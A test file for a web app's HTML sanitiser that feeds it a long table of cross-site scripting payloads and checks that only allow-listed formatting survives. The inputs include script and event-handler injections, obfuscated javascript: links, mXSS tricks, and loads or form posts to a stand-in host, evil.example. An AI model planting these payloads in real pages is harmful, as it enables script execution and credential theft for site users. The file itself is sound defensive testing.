import { describe, expect, test } from 'bun:test'
import { sanitizeRichText } from '../src/lib/richtext.ts'

/** What the contract allows: these tags, these attributes, these URL schemes. Nothing else may come out. */
const ALLOWED_TAGS = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr',
  'strong', 'b', 'em', 'i', 'u', 's', 'strike', 'del',
  'ul', 'ol', 'li', 'a', 'code', 'pre', 'blockquote',
  'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
])
const ALLOWED_ATTRS: Record<string, Set<string>> = {
  a: new Set(['href', 'title', 'rel', 'target']),
  code: new Set(['class']),
  ol: new Set(['start']),
  th: new Set(['colspan', 'rowspan']),
  td: new Set(['colspan', 'rowspan']),
}
// An allowed scheme, or a relative URL (no scheme at all, not protocol-relative): those cannot run code.
const SAFE_HREF = /^(?:(?:https?:\/\/|mailto:)|(?![a-z][a-z0-9+.-]*:)(?!\/\/))\S*$/i

/**
 * Checks the sanitiser's output structurally: every tag is on the allow-list, every attribute
 * is allowed for its tag, every href uses an allowed scheme, every link carries the forced rel,
 * and no raw `<` that is not a tag survives (text must be escaped).
 */
function assertSafe(html: string) {
  const tagRe = /<(\/?)([a-zA-Z0-9]+)((?:\s+[a-zA-Z-]+(?:="[^"]*")?)*)\s*(\/?)>/g
  let rest = html
  for (const m of html.matchAll(tagRe)) {
    const [whole, closing, name, attrs] = m
    const tag = name!.toLowerCase()
    expect(ALLOWED_TAGS.has(tag)).toBe(true)
    if (closing) expect(attrs!.trim()).toBe('')
    const seen: Record<string, string> = {}
    for (const a of attrs!.matchAll(/([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      const attr = a[1]!.toLowerCase()
      expect(ALLOWED_ATTRS[tag]?.has(attr) ?? false).toBe(true)
      seen[attr] = a[2] ?? ''
    }
    if (seen.href !== undefined) expect(seen.href).toMatch(SAFE_HREF)
    if (seen.target !== undefined) expect(seen.target).toBe('_blank')
    if (seen.class !== undefined) for (const c of seen.class.split(/\s+/)) expect(c).toMatch(/^language-[\w-]+$/)
    if (tag === 'a' && !closing) expect(seen.rel).toBe('noopener noreferrer nofollow')
    rest = rest.replace(whole, '')
  }
  // Whatever is not a well-formed allowed tag is text, and text never holds a raw '<' or '>'.
  expect(rest).not.toMatch(/[<>]/)
}

// Each vector, and words that must not survive anywhere in the output (script bodies, handlers).
const XSS: [name: string, input: string, mustNotContain: RegExp | null][] = [
  ['script tag', '<script>alert(1)</script>', /alert/],
  ['script, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /evil/],
  ['script split by a nested tag', '<scr<script>ipt>alert(1)</script>', null],
  ['script with type module', '<script type="module">import("//evil.example")</script>', /evil/],
  ['img onerror', '<img src=x onerror=alert(1)>', /alert|onerror/i],
  ['img onerror without quotes and slashes', '<img/src="x"/onerror="alert(1)">', /alert/],
  ['svg onload', '<svg onload=alert(1)>', /alert/],
  ['svg with nested script', '<svg><script>alert(1)</script></svg>', /alert/],
  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>', /javascript/i],
  ['svg xlink href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', /javascript/i],
  ['math mglyph mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /alert/],
  ['body onload', '<body onload=alert(1)>', /alert/],
  ['p onclick', '<p onclick="alert(1)">hi</p>', /alert|onclick/i],
  ['p onmouseover, mixed case', '<p OnMouseOver="alert(1)">hi</p>', /alert/i],
  ['a onclick with a safe href', '<a href="https://example.com" onclick="alert(1)">x</a>', /alert/],
  ['details ontoggle', '<details open ontoggle=alert(1)>', /alert/],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>', /alert/],
  ['video source onerror', '<video><source onerror="alert(1)"></video>', /alert/],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>', /alert/],
  ['javascript: href', '<a href="javascript:alert(1)">x</a>', /javascript/i],
  ['javascript: href, mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>', /javascript/i],
  ['javascript: href with leading spaces', '<a href="   javascript:alert(1)">x</a>', /javascript/i],
  ['javascript: href with a tab inside', '<a href="java\tscript:alert(1)">x</a>', /script:/i],
  ['javascript: href with a newline inside', '<a href="java\nscript:alert(1)">x</a>', /script:/i],
  ['javascript: href, entity-encoded tab', '<a href="java&#x09;script:alert(1)">x</a>', /script:/i],
  ['javascript: href, decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', /alert/],
  ['javascript: href, hex entities', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>', /alert/],
  ['javascript: href, entities without semicolons', '<a href="&#0000106&#0000097vascript:alert(1)">x</a>', /alert/],
  ['javascript: href, named entity colon', '<a href="javascript&colon;alert(1)">x</a>', /alert/],
  ['javascript: href, unquoted', '<a href=javascript:alert(1)>x</a>', /alert/],
  ['javascript: href, NUL byte', '<a href="java\u0000script:alert(1)">x</a>', /alert/],
  // Percent-encoding makes it a relative path, which browsers never run; the check is that no scheme survives.
  ['javascript: href, URL-encoded scheme', '<a href="javascript%3Aalert(1)">x</a>', /javascript:/i],
  ['data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /data:/i],
  ['data: href, mixed case', '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>', /data:|alert/i],
  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>', /vbscript/i],
  ['vbscript: href, upper case', '<a href="VBSCRIPT:msgbox(1)">x</a>', /vbscript/i],
  ['file: href', '<a href="file:///etc/passwd">x</a>', /file:/i],
  ['protocol-relative href', '<a href="//evil.example/">x</a>', /evil/],
  ['style tag', '<style>body{background:url(javascript:alert(1))}</style>', /alert|background/],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>', /style|alert/i],
  ['style attribute, expression()', '<p style="width:expression(alert(1))">x</p>', /expression|alert/],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">', /evil/],
  ['iframe src', '<iframe src="https://evil.example"></iframe>', /evil/],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', /alert/],
  ['iframe javascript: src', '<IFRAME SRC="javascript:alert(1)"></IFRAME>', /alert/],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>', /alert/],
  ['form with action', '<form action="https://evil.example"><input name="password"><button>Go</button></form>', /evil|password/],
  ['form button formaction', '<button formaction="javascript:alert(1)">x</button>', /alert/],
  ['object data', '<object data="javascript:alert(1)"></object>', /alert/],
  ['object with embedded param', '<object><param name="x" value="javascript:alert(1)"></object>', /alert/],
  ['embed src', '<embed src="https://evil.example/x.swf">', /evil/],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', /refresh|alert/],
  ['base href', '<base href="https://evil.example/">', /evil/],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', /alert/],
  ['template content', '<template><img src=x onerror=alert(1)></template>', /alert/],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)>', /alert/],
  ['title breakout attempt in a link title', '<a href="https://ok.example" title="&quot;><script>alert(1)</script>">x</a>', null],
  ['comment hiding a script', '<!--<script>alert(1)</script>-->', /alert/],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', /alert/],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>', null],
  ['code class injection', '<code class="language-js x onclick=alert(1)">x</code>', null],
  ['target other than _blank', '<a href="https://ok.example" target="evilframe">x</a>', /evilframe/],
  ['rel override attempt', '<a href="https://ok.example" rel="opener">x</a>', /opener"/],
  ['xml namespace script', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', null],
  ['already-escaped markup stays text', '&lt;script&gt;alert(1)&lt;/script&gt;', null],
  ['NUL and control characters (PostgreSQL refuses NUL in text)', '<p>a\u0000b\u0001\u001F\u007F</p><a href="http://x\u0000.example">y</a>', /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/],
]

describe('sanitizeRichText neutralises XSS vectors', () => {
  test.each(XSS)('%s', (_name, input, mustNotContain) => {
    const out = sanitizeRichText(input)
    assertSafe(out)
    if (mustNotContain) expect(out).not.toMatch(mustNotContain)
  })

  test('hostile content mixed into formatting keeps the formatting only', () => {
    const out = sanitizeRichText('<h2 onclick="x()">Title</h2><p>Read <a href="javascript:alert(1)">this</a></p><script>alert(2)</script>')
    expect(out).toBe('<h2>Title</h2><p>Read <a rel="noopener noreferrer nofollow">this</a></p>')
  })

  test('the output is stable: sanitising it again changes nothing', () => {
    for (const [, input] of XSS) {
      const once = sanitizeRichText(input)
      expect(sanitizeRichText(once)).toBe(once)
    }
  })
})

describe('sanitizeRichText keeps the allowed formatting', () => {
  const KEEP: [name: string, input: string, expected: string][] = [
    ['headings', '<h1>One</h1><h2>Two</h2><h3>Three</h3><h6>Six</h6>', '<h1>One</h1><h2>Two</h2><h3>Three</h3><h6>Six</h6>'],
    ['paragraphs and line breaks', '<p>a<br>b</p><p>c</p>', '<p>a<br />b</p><p>c</p>'],
    ['horizontal rule', '<p>a</p><hr><p>b</p>', '<p>a</p><hr /><p>b</p>'],
    ['bold and italic', '<p><strong>b</strong> <b>b</b> <em>i</em> <i>i</i></p>', '<p><strong>b</strong> <b>b</b> <em>i</em> <i>i</i></p>'],
    ['underline and strike', '<p><u>u</u> <s>s</s> <del>d</del> <strike>x</strike></p>', '<p><u>u</u> <s>s</s> <del>d</del> <strike>x</strike></p>'],
    ['unordered list', '<ul><li>a</li><li>b</li></ul>', '<ul><li>a</li><li>b</li></ul>'],
    ['ordered list with start', '<ol start="3"><li>c</li></ol>', '<ol start="3"><li>c</li></ol>'],
    ['nested lists', '<ul><li>a<ol><li>a1</li></ol></li></ul>', '<ul><li>a<ol><li>a1</li></ol></li></ul>'],
    [
      'https link gets the forced rel',
      '<a href="https://example.com/a?b=1&amp;c=2">x</a>',
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">x</a>',
    ],
    ['http link', '<a href="http://example.com">x</a>', '<a href="http://example.com" rel="noopener noreferrer nofollow">x</a>'],
    ['relative link (same site)', '<a href="/courses/1#top">x</a>', '<a href="/courses/1#top" rel="noopener noreferrer nofollow">x</a>'],
    ['mailto link', '<a href="mailto:t@example.com">mail</a>', '<a href="mailto:t@example.com" rel="noopener noreferrer nofollow">mail</a>'],
    [
      'link title and target _blank',
      '<a href="https://example.com" title="Docs" target="_blank">x</a>',
      '<a href="https://example.com" title="Docs" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    ['inline code', '<p>Use <code>npm test</code></p>', '<p>Use <code>npm test</code></p>'],
    [
      'code block with language class, markup inside escaped',
      '<pre><code class="language-ts">if (a &lt; b) { x = "&lt;b&gt;" }</code></pre>',
      '<pre><code class="language-ts">if (a &lt; b) { x = "&lt;b&gt;" }</code></pre>',
    ],
    ['blockquote', '<blockquote><p>Quoted</p></blockquote>', '<blockquote><p>Quoted</p></blockquote>'],
    ['plain text with special characters', 'Tom & Jerry say 1 < 2', 'Tom &amp; Jerry say 1 &lt; 2'],
    ['tabs and newlines in text survive', '<pre><code>a\n\tb</code></pre>', '<pre><code>a\n\tb</code></pre>'],
    ['non-Latin text and emoji', '<p>你好，世界 🎉</p>', '<p>你好，世界 🎉</p>'],
    ['disallowed wrapper is unwrapped, its text kept', '<div><span>kept</span></div>', 'kept'],
  ]
  test.each(KEEP)('%s', (_name, input, expected) => {
    const out = sanitizeRichText(input)
    expect(out).toBe(expected)
    assertSafe(out)
  })
})

describe('tables (issue 29.10: a pasted table was flattened)', () => {
  test('kept with their cells and spans; style, width, colgroup and handlers dropped', () => {
    const pasted =
      '<table style="width: 400px" border="1" onclick="x()"><colgroup><col style="min-width: 25px"></colgroup>' +
      '<thead><tr><th colspan="2" style="color:red">Group</th></tr></thead>' +
      '<tbody><tr><td rowspan="2" width="80">A</td><td colspan="1"><p>B</p></td></tr><tr><td colspan="x">C</td></tr></tbody></table>'
    const out = sanitizeRichText(pasted)
    expect(out).toBe(
      '<table><thead><tr><th colspan="2">Group</th></tr></thead><tbody><tr><td rowspan="2">A</td><td><p>B</p></td></tr><tr><td>C</td></tr></tbody></table>',
    )
    assertSafe(out)
    expect(sanitizeRichText(out)).toBe(out)
  })

  test('a script or an image inside a cell is still removed', () => {
    const out = sanitizeRichText('<table><tr><td><script>alert(1)</script><img src=x onerror=alert(2)>ok</td></tr></table>')
    expect(out).toBe('<table><tr><td>ok</td></tr></table>')
    assertSafe(out)
  })
})
